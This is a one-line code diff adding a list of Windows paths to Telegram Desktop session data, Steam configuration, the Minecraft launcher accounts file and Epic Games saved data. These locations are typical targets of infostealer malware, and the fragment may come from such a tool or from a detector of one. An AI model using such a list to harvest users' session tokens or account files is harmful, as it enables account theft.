@@ -1,0 +1,1 @@
+P = ["\\Telegram Desktop\\tdata", "\\Steam\\config", "\\.minecraft\\launcher_accounts.json", "\\EpicGamesLauncher\\Saved"]
